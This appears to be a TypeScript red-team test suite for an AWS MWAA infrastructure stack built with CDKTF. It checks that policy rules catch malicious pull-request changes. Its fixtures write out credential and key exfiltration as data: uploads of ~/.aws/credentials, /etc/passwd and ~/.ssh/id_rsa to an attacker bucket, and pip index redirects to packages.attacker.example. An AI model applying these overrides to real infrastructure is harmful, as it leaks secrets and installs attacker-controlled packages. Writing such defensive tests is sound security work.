import { S3Object } from "@cdktf/provider-aws/lib/s3-object";
import { AssetType, TerraformAsset } from "cdktf";
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { exampleConfig, withAirflowFiles } from "../helpers/config-fixtures";
import { addressOf, at, attack, failedRules, refTo, stackOf } from "./attack";

/**
 * The MWAA stack uploads files and points the environment at them: a pull request can add an upload
 * that reads the planning machine's files, or point MWAA at something no rule has read. Each
 * synthesizes with exit 0 and a REVIEW.md of PASS unless the upload rules read what is written.
 */
const withFiles = () => [withAirflowFiles(exampleConfig())];
const OBJECT = "aws_s3_object";

describe("red team: uploads that read the planning machine or feed MWAA unjudged files", () => {
  it("an extra upload of ~/.aws/credentials into the DAG bucket fails", async () => {
    const outcome = await attack((app) =>
      stackOf(app, "example-mwaa").addOverride(`resource.${OBJECT}.exfiltrate`, {
        bucket: refTo(app, "example-mwaa/dag-bucket/bucket", "bucket"),
        key: "dags/credentials",
        source: "/root/.aws/credentials",
      }),
    );
    expect(failedRules(outcome)).toContain("S3.OBJECTS");
  });

  it("a DAG upload redirected to another account's bucket, with a relative path out of the stack's folder, fails", async () => {
    const outcome = await attack((app) => {
      const dag = at(app, "example-mwaa/airflow-files").node.children.find((c) => c.node.id.startsWith("dag-") && !c.node.id.endsWith("-file"))!;
      at(app, dag.node.path).addOverride("bucket", "attacker-collection-bucket");
      at(app, dag.node.path).addOverride("source", "../../../../.ssh/id_rsa");
    }, withFiles());
    expect(failedRules(outcome)).toContain("S3.OBJECTS");
  });

  it("the environment pointed at a requirements file uploaded by hand, at a literal version, fails", async () => {
    const outcome = await attack((app) => {
      at(app, "example-mwaa/airflow/environment").addOverride("requirements_s3_path", "requirements-internal.txt");
      at(app, "example-mwaa/airflow/environment").addOverride("requirements_s3_object_version", "3sL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY");
    }, withFiles());
    expect(failedRules(outcome)).toContain("MWAA.ARTIFACTS");
  });

  it("requirements written inline into an upload of the stack, reaching a private index, fail", async () => {
    const outcome = await attack((app) => {
      stackOf(app, "example-mwaa").addOverride(`resource.${OBJECT}.inline_requirements`, {
        bucket: refTo(app, "example-mwaa/dag-bucket/bucket", "bucket"),
        key: "requirements.txt",
        content: "--extra-index-url https://packages.attacker.example/simple\nrequests==2.32.3\n",
      });
      at(app, "example-mwaa/airflow/environment").addOverride("requirements_s3_path", `\${${OBJECT}.inline_requirements.key}`);
      at(app, "example-mwaa/airflow/environment").addOverride("requirements_s3_object_version", `\${${OBJECT}.inline_requirements.version_id}`);
    });
    expect(failedRules(outcome)).toContain("MWAA.ARTIFACTS");
  });

  it("a startup script path with no pinned version (an object replaced by hand runs next restart) fails", async () => {
    const outcome = await attack((app) => {
      const environment = at(app, "example-mwaa/airflow/environment");
      environment.addOverride("startup_script_s3_path", "startup.sh");
      environment.addOverride("startup_script_s3_object_version", null);
    }, withFiles());
    expect(failedRules(outcome)).toContain("MWAA.ARTIFACTS");
  });

  it("a file of the planning machine copied in as a cdktf asset and uploaded with its true hash fails", async () => {
    const outcome = await attack((app) => {
      const stack = stackOf(app, "example-mwaa");
      const asset = new TerraformAsset(stack, "passwd-file", { path: "/etc/passwd", type: AssetType.FILE });
      new S3Object(stack, "passwd", {
        bucket: refTo(app, "example-mwaa/dag-bucket/bucket", "bucket"),
        key: "dags/passwd.txt",
        source: asset.path,
        sourceHash: createHash("sha256").update(readFileSync("/etc/passwd")).digest("hex"),
        serverSideEncryption: "aws:kms",
        kmsKeyId: refTo(app, "example-mwaa/environment-key/key", "arn"),
      });
    }, withFiles());
    expect(failedRules(outcome)).toContain("S3.OBJECTS");
  });

  it("the startup script's upload replaced by inline content that points pip elsewhere fails", async () => {
    const outcome = await attack((app) => {
      const startup = at(app, "example-mwaa/airflow-files/startup");
      startup.addOverride("source", undefined);
      startup.addOverride("source_hash", undefined);
      startup.addOverride("content", "export PIP_INDEX_URL=https://packages.attacker.example/simple\n");
    }, withFiles());
    expect(failedRules(outcome)).toContain("S3.OBJECTS");
  });

  it("an upload through the deprecated aws_s3_bucket_object, which no rule reads, fails", async () => {
    const outcome = await attack((app) =>
      stackOf(app, "example-mwaa").addOverride("resource.aws_s3_bucket_object.legacy", {
        bucket: refTo(app, "example-mwaa/dag-bucket/bucket", "bucket"),
        key: "dags/x.py",
        source: `${addressOf(app, "example-mwaa/dag-bucket/bucket")}.txt`,
      }),
    );
    expect(failedRules(outcome)).toContain("TERRAFORM.UNJUDGED_TYPE");
  });
});
